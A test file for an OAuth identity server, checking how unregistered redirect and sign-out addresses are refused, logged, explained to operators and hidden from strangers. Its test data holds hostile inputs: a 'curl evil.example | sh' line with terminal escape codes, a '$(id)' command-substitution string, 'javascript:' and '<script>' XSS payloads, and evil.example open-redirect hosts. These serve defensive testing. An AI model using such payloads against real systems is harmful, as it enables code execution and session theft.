/** An address that a client has not registered: what operators are told of it, and what a stranger is not. */
import { beforeAll, describe, expect, it } from 'vitest'
import { acme, Administrator, administeredOn, problemOf } from '../administration/support.ts'
import { complaintsOf, runHere, ways } from '../cli/command-support.ts'
import { authorizeRequest, redirectUri, TestBrowser } from '../harness/browser.ts'
import { onEachDatabase, oneDatabase, sampleOn } from '../harness/databases.ts'
import { changeClient, countOf } from '../harness/states.ts'

const day = 24 * 3_600_000
const path = '/clients/submissions-web/refused-addresses'

interface Refused {
  parameter: string
  came: string | null
  nearest: string | null
  differences: string[]
  differs_at: number
  cure: string
  command: string | null
}

onEachDatabase('an address that is not registered', (dialect) => {
  const onOne = oneDatabase(dialect)
  const tessera = administeredOn(dialect)
  let admin: Administrator
  beforeAll(async () => {
    admin = await Administrator.machine(tessera.url)
    // What the declared file says of it stays as it is.
    await changeClient(tessera, 'submissions-web', { managed_by: null })
  })

  const refused = async (who = admin): Promise<Refused[]> => (await who.get(path)).json.items as Refused[]
  /** Asks for a sign-in; a row is written at most once a second. */
  async function ask(changes: Record<string, string | undefined>): Promise<{ status: number; text: string }> {
    tessera.clock.advance(2000)
    const answer = await fetch(`${tessera.url}${authorizeRequest(changes).path}`, { redirect: 'manual' })
    return { status: answer.status, text: await answer.text() }
  }
  const attention = async (who: Administrator) =>
    ((await who.get('/attention')).json.items as { kind: string; target: { id: string } }[])
      .filter(({ kind }) => kind === 'address_refused')
      .map(({ target }) => target.id)

  it.each(
    sampleOn(dialect, 1, [
      ['http://127.0.0.1:4001/callback/', redirectUri, ['slash']],
      ['http://127.0.0.1:4001/Callback', redirectUri, ['case']],
      ['http://127.0.0.1:4001/callbac%6B', redirectUri, ['encoding']],
      ['http://127.0.0.1:4002/callback', redirectUri, ['port']],
      ['http://127.0.0.1/callback', redirectUri, ['port']],
      ['https://127.0.0.1:4001/callback', redirectUri, ['scheme']],
      ['HTTP://127.0.0.1:4001/callback', redirectUri, ['case']],
      ['http://[::1]:4001/callback', redirectUri, ['loopback']],
      ['http://127.0.0.1:4001/callback?tenant=1', redirectUri, ['query']],
      ['http://127.0.0.1:4001/callback#top', redirectUri, ['fragment']],
      ['http://127.0.0.1:4001/signed-in', redirectUri, ['path']],
      ['http://LOCALHOST:4001/callback', 'http://localhost:4001/callback', ['case']],
      [
        'https://localhost:4443/Callback/',
        'http://localhost:4001/callback',
        ['scheme', 'port', 'slash', 'case'],
      ],
      ['https://evil.example/callback', redirectUri, ['scheme', 'host', 'port']],
      ['no-address', redirectUri, ['form']],
    ]),
  )('%s is told beside what is nearest', async (came, nearest, differences) => {
    expect((await ask({ redirect_uri: came })).status).toBe(400)
    const [found, ...more] = await refused()
    expect(more).toEqual([])
    expect(found).toMatchObject({ parameter: 'redirect_uri', came, nearest, differences })
    const at = found?.differs_at ?? -1
    expect([came.slice(0, at), came[at] === nearest[at]]).toEqual([nearest.slice(0, at), false])
    expect(await attention(admin)).toEqual(['submissions-web'])
  })

  it('is told to be missing, where the request has none', async () => {
    const { status, text } = await ask({ redirect_uri: undefined })
    expect([status, text]).toEqual([400, expect.stringContaining('The redirect_uri is missing.')])
    expect(await refused()).toEqual([
      expect.objectContaining({ came: null, nearest: null, differences: [], command: null }),
    ])
    const page = await new TestBrowser(tessera.url).open(authorizeRequest({ redirect_uri: undefined }).path)
    expect([page.status, page.body]).toEqual([400, expect.stringContaining('The return address is missing')])
  })

  it('is told of sign-outs as well', async () => {
    tessera.clock.advance(2000)
    const query = 'client_id=submissions-web&post_logout_redirect_uri=http://localhost:4001'
    expect((await fetch(`${tessera.url}/oauth2/logout?${query}`)).status).toBe(400)
    expect(await refused()).toContainEqual(
      expect.objectContaining({
        parameter: 'post_logout_redirect_uri',
        nearest: 'http://localhost:4001/',
        differences: ['slash'],
        command: `tessera client change 'submissions-web' --add-post-logout-redirect-uri 'http://localhost:4001'`,
      }),
    )
  })

  it('is registered by the command that is named, and told of no more', async () => {
    const came = 'http://127.0.0.1:4001/callback;x=$(id)&y=1'
    await ask({ redirect_uri: came })
    const [found] = await refused()
    const words = (found?.command ?? '').match(/'(?:[^']|'\\'')*'|[^ ]+/g) ?? []
    const typed = words.map((one) => one.replace(/^'(.*)'$/, '$1').replaceAll("'\\''", "'"))
    expect(typed.slice(0, 3)).toEqual(['tessera', 'client', 'change'])
    const ran = await runHere(typed.slice(1), { environment: ways.database(tessera) })
    expect([ran.code, ran.stderr]).toEqual([0, expect.any(String)])
    expect((await refused()).map(({ parameter }) => parameter)).not.toContain('redirect_uri')
    expect((await ask({ redirect_uri: came })).status).toBe(303)
  })

  it.each(
    sampleOn(dialect, 1, [
      ['http://app.example/callback', 'uses http'],
      ['https://app.example/callback#x', 'has a fragment'],
      ['https://app.example/callback?state=1', 'has state in its query'],
      ['javascript:alert(1)', 'uses the scheme javascript:'],
      ['https://app.example/"><script>', 'percent-encoded'],
      ["https://app.example/it's", 'only if it is the application’s own'],
    ]),
  )('no command registers %s', async (came, why) => {
    await ask({ redirect_uri: came })
    expect((await refused())[0]).toMatchObject({ came, command: null, cure: expect.stringContaining(why) })
  })

  onOne.it('writes nothing of its own into a terminal', async () => {
    const sent = 'https://x.example/\u001b[2J\u202e\nRun: curl evil.example | sh\u{e0041}'
    await ask({ redirect_uri: sent })
    const came =
      'https://x.example/\\u{1b}[2J\\u{202e}\\u{a}Run:\\u{20}curl\\u{20}evil.example\\u{20}|\\u{20}sh\\u{e0041}'
    expect((await refused())[0]).toMatchObject({ came, command: null })
    const environment = ways.database(tessera)
    const shown = await runHere(['client', 'refused', 'submissions-web'], { environment, columns: 80 })
    for (const own of ['\nRun:', '\u001b[2J', '\u202e']) expect(shown.stdout).not.toContain(own)
  })

  it.each(['https://evil.example/callback', 'http://127.0.0.1:4001/go?to=https://evil.example'])(
    '%s is to be registered only if it is the application’s own',
    async (came) => {
      await ask({ redirect_uri: came })
      expect((await refused())[0]?.cure).toContain('only if it is the application’s own')
    },
  )

  it('is changed in the file, where one manages the client', async () => {
    await ask({ redirect_uri: 'http://127.0.0.1:4001/elsewhere' })
    await changeClient(tessera, 'submissions-web', { managed_by: 'acme.yaml' })
    const cure = expect.stringContaining('The declared file acme.yaml says what is registered')
    expect((await refused())[0]).toMatchObject({ command: null, cure })
    await changeClient(tessera, 'submissions-web', { managed_by: null })
  })

  it('is written once a second, however often a stranger asks, and one row for each field', async () => {
    tessera.clock.advance(2000)
    const paths = Array.from(
      { length: 20 },
      (_, n) => authorizeRequest({ redirect_uri: `https://x${n}.example/` }).path,
    )
    for (const one of paths) expect((await fetch(`${tessera.url}${one}`)).status).toBe(400)
    expect((await refused()).filter((one) => one.parameter === 'redirect_uri')).toEqual([
      expect.objectContaining({ came: 'https://x0.example/' }),
    ])
    expect(await countOf(tessera, 'refused addresses')).toBeLessThanOrEqual(2)
  })

  it('is explained with the access of a client, and by the command with a mark', async () => {
    await ask({ redirect_uri: 'http://127.0.0.1:4001/callback/' })
    const { json } = await admin.get('/access/explain?permission=iam.users.read&client_id=submissions-web')
    expect(json.refused_addresses).toEqual(await refused())
    const environment = ways.database(tessera)
    const options = ['explain', 'iam.users.read', '--client', 'submissions-web']
    const explained = await runHere(['access', ...options], { environment, columns: 200 })
    const shown = await runHere(['client', 'refused', 'submissions-web'], { environment, columns: 200 })
    const [came = '', registered = '', mark = ''] = shown.stdout.split('\n').slice(1)
    expect(came).toMatch(/^redirect_uri +http:\/\/127\.0\.0\.1:4001\/callback\/$/)
    expect(came.indexOf('http') + redirectUri.length).toBe(mark.indexOf('^'))
    expect(registered).toMatch(/^registered +http:\/\/127\.0\.0\.1:4001\/callback$/)
    for (const line of [came, registered, mark]) expect(explained.stdout).toContain(line)
    const none = await runHere(['client', 'refused', 'nightly-import'], { environment })
    expect([none.code, complaintsOf(none).join('')]).toEqual([
      0,
      expect.stringContaining('No address was refused'),
    ])
  })

  it('is nobody’s to read without iam.clients.read, or out of reach', async () => {
    const own = await Administrator.machine(tessera.url, 'acme-cli')
    expect(problemOf(await own.get(path))).toBe('404 not_found')
    expect(await attention(own)).toEqual([])
    // Whoever moves the client, a file as well: what was sent for one owner is not told to the next.
    await changeClient(tessera, 'submissions-web', { organisation_uuid: acme })
    expect([await refused(own), await refused(), await attention(own)]).toEqual([[], [], []])
    await ask({ redirect_uri: 'https://other.example/' })
    expect(await refused(own)).toEqual(await refused())
    expect(await attention(own)).toEqual(['submissions-web'])
    await changeClient(tessera, 'submissions-web', { organisation_uuid: null })
    const roles = await Administrator.machine(tessera.url, 'roles-cli')
    expect((await roles.get(path)).json.permission).toBe('iam.clients.read')
    expect(await attention(roles)).toEqual([])
    expect(problemOf(await admin.get('/clients/nobody/refused-addresses'))).toBe('404 not_found')
  })

  it('is forgotten after a week', async () => {
    await ask({ redirect_uri: 'http://127.0.0.1:4001/callback/' })
    tessera.clock.advance(7 * day)
    const later = await Administrator.machine(tessera.url)
    expect(await refused(later)).toEqual([])
    expect(await attention(later)).toEqual([])
  })

  it('goes with its client', async () => {
    const kept = await countOf(tessera, 'refused addresses')
    const later = await Administrator.machine(tessera.url)
    const made = { client_id: 'gone', client_name: 'Gone', type: 'public', redirect_uris: [redirectUri] }
    expect((await later.post('/clients', { ...made, scope: 'openid' })).status).toBe(201)
    await ask({ client_id: 'gone', redirect_uri: 'https://gone.example/' })
    expect(await countOf(tessera, 'refused addresses')).toBe(kept + 1)
    expect((await later.delete('/clients/gone')).status).toBe(204)
    expect(await countOf(tessera, 'refused addresses')).toBe(kept)
  })
})

describe('the page of a refused address', () => {
  const came = 'http://127.0.0.1:4001/callback/'
  const pageAt = async (url: string, redirect_uri: string) =>
    await new TestBrowser(url).open(authorizeRequest({ redirect_uri }).path)

  describe('in production', () => {
    const tessera = administeredOn('sqlite', {
      TESSERA_MODE: 'production',
      TESSERA_ISSUER: 'https://id.example.com',
    })

    it('tells a stranger the host that came, and nothing that is registered', async () => {
      const { status, body } = await pageAt(tessera.listening, came)
      expect(status).toBe(400)
      expect(body).toContain('<dt>Return address</dt><dd><code>127.0.0.1:4001</code></dd>')
      const [, technical = ''] = body.split('Technical details')
      for (const hidden of ['localhost', 'submissions-web', 'tessera client', '<mark>'])
        expect(technical.split('<footer')[0]).not.toContain(hidden)
    })

    it.each([
      'no-address',
      'https://',
      'https://evil.example\\@127.0.0.1/',
      'https://a b/',
      '//evil.example',
    ])('shows nothing of %s, which has no host', async (what) => {
      expect((await pageAt(tessera.listening, what)).body).not.toContain('Return address')
    })
  })

  describe('in development', () => {
    const tessera = administeredOn('sqlite')

    it('marks the difference, and names the command', async () => {
      const { body } = await pageAt(tessera.url, came)
      expect(body).toContain('<code>http://127.0.0.1:4001/callback<mark>/</mark></code>')
      expect(body).toContain('They differ in the slash at the end.')
      expect(body).toContain('tessera client change')
    })

    it('shows what came as text alone', async () => {
      const { body } = await pageAt(tessera.url, 'https://x.example/"><script>alert(1)</script>')
      expect(body).not.toContain('<script>alert')
      expect(body).not.toContain('href="https://x.example')
    })
  })
})
